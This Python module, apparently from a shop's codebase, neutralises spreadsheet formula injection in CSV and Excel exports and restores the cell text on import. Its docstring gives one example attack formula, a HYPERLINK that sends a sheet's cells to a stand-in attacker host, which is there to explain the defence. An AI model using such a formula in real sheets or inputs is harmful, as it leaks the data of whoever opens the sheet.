"""Spreadsheet cells that cannot run: formula injection (CSV/Excel injection) neutralised.

Excel, LibreOffice and Google Sheets take a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, also after a tab or carriage return, which some of them skip — and so do the
full-width forms some phone keyboards type. A complaint written as
``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` would then be a live link that sends the
sheet's cells to another site when the owner clicks it. Every export the shop writes (customers,
feedback, campaign WhatsApp list, personal data, catalogue, Oscar's order list and reports)
goes through this module:

- **CSV** has no types, so each such text gets a leading apostrophe (``neutralise_formula``),
  which spreadsheet programs show as plain text. The shop's imports take that apostrophe off
  again (``restore_formula_text``), so an exported sheet imported back is unchanged.
- **Excel (.xlsx)** has types: every text is written as a text cell, marked like a typed
  apostrophe (``quotePrefix``) when it starts like a formula, so it shows exactly as written
  (a phone number ``+62…`` stays ``+62…``) and stays text when the owner edits the cell.
"""

import io
import re

import openpyxl
import tablib

# A lone "-" or a signed number: digits with dots, commas or spaces, nothing to compute with.
PLAIN_NUMBER = re.compile(r"-|[+-][\d., ]+")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_formula(value):
    """``value`` as a CSV cell that cannot be a formula: text starting like one gets a leading
    apostrophe. Numbers, dates, other text, a lone "-" (a placeholder) and a plain signed number
    such as a phone ``+62812…`` (it can compute nothing) are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore_formula_text(value):
    """Undo ``neutralise_formula`` on a cell read back from an exported sheet."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def neutralised_row(row):
    """A row (any iterable of cells) as a list of neutralised cells."""
    return [neutralise_formula(value) for value in row]


def export_dataset(dataset, file_format):
    """``dataset`` (tablib) exported as ``file_format`` ("csv" or "xlsx") with no cell that
    can run (see the module docstring); the one way the shop writes a tablib spreadsheet."""
    if file_format == "xlsx":
        return text_cells_only(dataset.export("xlsx"))
    safe = tablib.Dataset(
        *(neutralised_row(row) for row in dataset),
        headers=neutralised_row(dataset.headers) if dataset.headers else None,
        title=dataset.title,
    )
    return safe.export(file_format)


def text_cells_only(xlsx_content):
    """The workbook ``xlsx_content`` with every formula cell turned into a text cell showing
    the same text (openpyxl makes a formula of any text starting with "=")."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()
